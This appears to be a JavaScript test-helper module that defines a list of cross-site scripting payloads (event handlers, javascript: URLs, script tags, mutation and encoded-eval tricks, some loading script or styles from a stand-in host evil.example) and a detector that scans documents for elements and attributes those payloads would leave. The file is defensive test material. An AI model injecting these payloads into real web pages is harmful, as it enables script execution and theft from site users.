// Script-injection payloads and a detector for what they would leave in a document if some
// user text reached markup unescaped, shared by the end-to-end tests of the printed documents.
//
// The detector (`inspect`) runs inside the browser on any Document (the app page, the print
// frame's document, an exported file opened on its own, a DOMParser document). It is checked
// against the payloads themselves, parsed raw in every context they are written for (element
// text, quoted attributes, <style>, <title>, <textarea>): see `rawDetections`.

// Payloads marked `inert` create no element or attribute even when written into markup raw
// (template syntax, already-escaped text, a bare URL): they are there to show that such text is
// kept literally, not evaluated or decoded.
export const PAYLOADS = [
  { p: '</style><img src=x onerror=window.__xss=1>' },
  { p: '</title><img src=x onerror=window.__xss=2>' },
  { p: '</textarea><img src=x onerror=window.__xss=3>' },
  { p: '<img src=x onerror=alert(1)>' },
  { p: '<svg onload=alert(1)>' },
  { p: '<svg><script>window.__xss=6</script></svg>' },
  { p: '<a href="javascript:alert(1)">点我</a>' },
  { p: '<a href=javascript:window.__xss=8>链接</a>' },
  { p: '<iframe src="javascript:window.top.__xss=9"></iframe>' },
  { p: '<iframe srcdoc="<script>parent.__xss=10</script>"></iframe>' },
  { p: '<script>alert(1)</script>' },
  { p: '<script src=//evil.example/x.js></script>' },
  { p: '" autofocus onfocus=alert(1) x="' },
  { p: "' onmouseover='alert(1)" },
  { p: '"><img src=x onerror=window.__xss=15>' },
  { p: "'><svg onload=window.__xss=16>" },
  { p: "{{constructor.constructor('alert(1)')()}}", inert: true },
  { p: '${alert(1)}', inert: true },
  { p: '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=19>' },
  { p: '<details open ontoggle=window.__xss=20>' },
  { p: '<body onload=window.__xss=21>' },
  { p: '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=22">' },
  { p: '<base href="//evil.example/">' },
  { p: '<link rel=stylesheet href=//evil.example/x.css>' },
  { p: '<object data="javascript:window.__xss=25"></object>' },
  { p: '<embed src="javascript:window.__xss=26">' },
  { p: '<form action="javascript:window.__xss=27"><button>提交</button></form>' },
  { p: '<input onfocus=window.__xss=28 autofocus>' },
  { p: '<div style="width: expression(alert(1))">宽</div>' },
  { p: '<div style="background:url(javascript:alert(1))">背景</div>' },
  { p: '<style>@import "//evil.example/x.css";body{background:url(//evil.example/y.png)}</style>' },
  { p: 'a\u0000<img src=x onerror=window.__xss=32>b' },
  { p: '\u202e<img src=x onerror=window.__xss=33>\u2028中\u2029\ufeff文\u200b' },
  { p: '<marquee onstart=window.__xss=34>滚动</marquee>' },
  { p: '<video><source onerror=window.__xss=35></video>' },
  { p: '<!-- --><![CDATA[ ]]><img src=x onerror=window.__xss=36>' },
  { p: '&lt;img src=x onerror=window.__xss=37&gt; &amp; &#60;b&#62;', inert: true },
  { p: '<x onclick=window.__xss=38>自定义</x>' },
  { p: '<noscript><p title="</noscript><img src=x onerror=window.__xss=39>">' },
  { p: 'javascript:alert(1)', inert: true },
  { p: '<a href="jav&#x09;ascript:alert(1)">制表符</a>' },
  { p: '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=10>矢量</text></a></svg>' },
  { p: "<img src=x:x onerror=eval(atob('d2luZG93Ll9feHNzPTQz'))>" },
  { p: '</text><script>window.__xss=44</script><text>' },
  { p: '%3Cscript%3Ewindow.__xss=45%3C/script%3E', inert: true },
  { p: '<plaintext><xmp>纯文本' },
];

/** The payload strings. */
export const STRINGS = PAYLOADS.map((x) => x.p);

/**
 * Text as a person reads it in any of the places it is shown: control characters (which the
 * documents write as U+FFFD) as U+FFFD, every run of white space as one space, trimmed.
 */
export function normalize(s) {
  return s
    .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/g, '\ufffd')
    .replace(/[\s\u0085]+/gu, ' ')
    .trim();
}

/**
 * Runs in the browser: what a payload left in `doc`. `clean` is the census ({tags, attrs}) of
 * the same kind of document filled with harmless text, `payload` the census of the payloads
 * parsed raw; `frameId` the one iframe that may exist (with its srcdoc). Returns a list of
 * findings (strings), empty when nothing was injected.
 */
export function inspect(doc, { clean, payload, frameId = null, scripts = 0 }) {
  const found = [];
  const where = (el) => {
    const s = el.outerHTML ?? `<${el.localName}>`;
    return s.length > 160 ? `${s.slice(0, 160)}…` : s;
  };
  const cleanTags = new Set(clean.tags);
  const cleanAttrs = new Set(clean.attrs);
  // Elements and attributes only a payload brings: any of them here was injected.
  const newTags = new Set(payload.tags.filter((t) => !cleanTags.has(t)));
  const newAttrs = new Set(payload.attrs.filter((a) => !cleanAttrs.has(a)));
  const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster', 'background', 'cite', 'srcset', 'ping']);
  const ALWAYS_BAD_TAGS = new Set(['img', 'math', 'object', 'embed', 'base', 'form', 'marquee', 'video', 'audio', 'source',
    'mglyph', 'mtext', 'x', 'plaintext', 'xmp', 'frame', 'frameset', 'applet', 'portal']);
  const STYLE_BAD = /expression\s*\(|javascript:|url\s*\(|@import|evil|behavior\s*:|-moz-binding|__xss|alert\(/i;
  let scriptCount = 0;
  // The printed documents' own policy (src/render/html.rs): the first child of <head> after
  // the charset, exactly this; any other http-equiv is a payload's.
  const OWN_CSP = "default-src 'none'; style-src 'unsafe-inline'";
  const ownCsp = (el) => el.localName === 'meta' && el.parentElement === doc.head && el.previousElementSibling?.hasAttribute('charset')
    && el.getAttribute('http-equiv') === 'Content-Security-Policy' && el.getAttribute('content') === OWN_CSP
    && el.attributes.length === 2;
  for (const el of doc.querySelectorAll('*')) {
    if (ownCsp(el)) continue;
    const tag = el.localName;
    if (ALWAYS_BAD_TAGS.has(tag) || newTags.has(tag)) found.push(`element <${tag}>: ${where(el)}`);
    if (tag === 'script') scriptCount++;
    if (tag === 'iframe' && !(frameId && el.id === frameId)) found.push(`iframe: ${where(el)}`);
    // The app's own <noscript> is a child of <body>; user text never is.
    if (tag === 'noscript' && el.parentElement !== doc.body) found.push(`element <noscript>: ${where(el)}`);
    if (tag === 'meta' && el.hasAttribute('http-equiv')) found.push(`meta http-equiv: ${where(el)}`);
    if (tag === 'link' && /evil|\/\/|javascript:/i.test(el.getAttribute('href') ?? '')) found.push(`link: ${where(el)}`);
    if (tag === 'style' && STYLE_BAD.test(el.textContent)) found.push(`style element: ${el.textContent.slice(0, 160)}`);
    for (const { name, value } of el.attributes) {
      const n = name.toLowerCase();
      if (n.startsWith('on')) found.push(`event attribute ${n}: ${where(el)}`);
      if (newAttrs.has(n)) found.push(`attribute ${n}: ${where(el)}`);
      if (n === 'autofocus' || n === 'http-equiv' || n === 'formaction' || n === 'xlink:href') found.push(`attribute ${n}: ${where(el)}`);
      if (n === 'srcdoc' && !(frameId && el.id === frameId)) found.push(`srcdoc: ${where(el)}`);
      const url = value.replace(/[\u0000-\u0020]/g, '');
      // `data:,` is the app's empty favicon.
      if (URL_ATTRS.has(n) && url !== 'data:,' && /^(javascript|vbscript|data):|^\/\/|evil|^x$|^x:x/i.test(url)) {
        found.push(`URL attribute ${n}="${value}": ${where(el)}`);
      }
      if (n === 'style' && STYLE_BAD.test(value)) found.push(`style attribute: ${where(el)}`);
    }
  }
  if (scriptCount > scripts) found.push(`${scriptCount} script elements (${scripts} expected)`);
  return found;
}

/**
 * Runs in the browser: the element names and attribute names in a document (its head and
 * body), as sorted lists.
 */
export function census(doc) {
  const tags = new Set();
  const attrs = new Set();
  for (const el of doc.querySelectorAll('*')) {
    tags.add(el.localName);
    for (const a of el.attributes) attrs.add(a.name.toLowerCase());
  }
  return { tags: [...tags].sort(), attrs: [...attrs].sort() };
}

/** The contexts a payload is written for, as a whole document around it (`%` is the payload). */
export const CONTEXTS = {
  text: '<!DOCTYPE html><html><head><title>t</title></head><body><p>%</p></body></html>',
  dquote: '<!DOCTYPE html><html><head><title>t</title></head><body><input value="%"><p class="%">x</p></body></html>',
  squote: "<!DOCTYPE html><html><head><title>t</title></head><body><input value='%'><p class='%'>x</p></body></html>",
  style: '<!DOCTYPE html><html><head><title>t</title><style>p { content: "%"; }</style></head><body><p>x</p></body></html>',
  title: '<!DOCTYPE html><html><head><title>%</title></head><body><p>x</p></body></html>',
  textarea: '<!DOCTYPE html><html><head><title>t</title></head><body><textarea>%</textarea></body></html>',
  svg: '<!DOCTYPE html><html><head><title>t</title></head><body><svg><text x="0" y="1">%</text></svg></body></html>',
};

/**
 * Runs in the browser (pass `{ strings, contexts, inspectSrc, censusSrc }`): every payload
 * parsed raw in every context by DOMParser (no script runs, nothing loads). Returns the census
 * of all payload markup and, per payload, the contexts in which `inspect` finds something.
 */
export function rawDetections({ strings, contexts, inspectSrc, censusSrc }) {
  const inspectFn = new Function(`return (${inspectSrc})`)();
  const censusFn = new Function(`return (${censusSrc})`)();
  const parse = (html) => new DOMParser().parseFromString(html, 'text/html');
  const tags = new Set();
  const attrs = new Set();
  const cleanOf = {};
  for (const [name, tpl] of Object.entries(contexts)) {
    cleanOf[name] = censusFn(parse(tpl.replaceAll('%', 'harmless')));
    for (const s of strings) {
      const c = censusFn(parse(tpl.replaceAll('%', s)));
      c.tags.filter((t) => !cleanOf[name].tags.includes(t)).forEach((t) => tags.add(t));
      c.attrs.filter((a) => !cleanOf[name].attrs.includes(a)).forEach((a) => attrs.add(a));
    }
  }
  const payload = { tags: [...tags].sort(), attrs: [...attrs].sort() };
  const detected = strings.map((s) =>
    Object.entries(contexts)
      .filter(([name, tpl]) => inspectFn(parse(tpl.replaceAll('%', s)), { clean: cleanOf[name], payload }).length > 0)
      .map(([name]) => name));
  return { payload, detected };
}

/** The census of the payload markup (see `rawDetections`), computed in `page`. */
export async function payloadCensus(page) {
  const r = await page.evaluate(rawDetections, {
    strings: STRINGS,
    contexts: CONTEXTS,
    inspectSrc: inspect.toString(),
    censusSrc: census.toString(),
  });
  return r.payload;
}

/**
 * `inspect` run in `page` on its own document, or with `frame` on the document of the iframe
 * with that id (same origin). `opts` as `inspect` takes them.
 */
export function inspectIn(page, opts, frame = null) {
  return page.evaluate(({ src, opts, frame }) => {
    const f = new Function(`return (${src})`)();
    const doc = frame ? document.getElementById(frame).contentDocument : document;
    return f(doc, opts);
  }, { src: inspect.toString(), opts, frame });
}

/** `census` run in `page` on its own document or on the iframe with id `frame`. */
export function censusIn(page, frame = null) {
  return page.evaluate(({ src, frame }) => {
    const f = new Function(`return (${src})`)();
    return f(frame ? document.getElementById(frame).contentDocument : document);
  }, { src: census.toString(), frame });
}

/**
 * For each payload: whether `inspect` (with `opts`) finds it when it is written raw into the
 * document of `page` (or of the iframe with id `frame`) just after `<body …>`, as element text,
 * in a double-quoted or in a single-quoted attribute. The document is re-parsed from its own
 * HTML by DOMParser each time (nothing runs, nothing loads), so this checks the detector against
 * the very document it inspects, with the same clean census.
 */
export function rawIntoDetections(page, opts, frame = null) {
  return page.evaluate(({ src, opts, frame, strings }) => {
    const f = new Function(`return (${src})`)();
    const doc = frame ? document.getElementById(frame).contentDocument : document;
    const html = `<!DOCTYPE html>\n${doc.documentElement.outerHTML}`;
    const at = html.indexOf('>', html.search(/<body[\s>]/i)) + 1;
    const contexts = [(p) => p, (p) => `<span title="${p}">x</span>`, (p) => `<span title='${p}'>x</span>`];
    return strings.map((p) => contexts.some((c) => {
      const parsed = new DOMParser().parseFromString(html.slice(0, at) + c(p) + html.slice(at), 'text/html');
      return f(parsed, opts).length > 0;
    }));
  }, { src: inspect.toString(), opts, frame, strings: STRINGS });
}
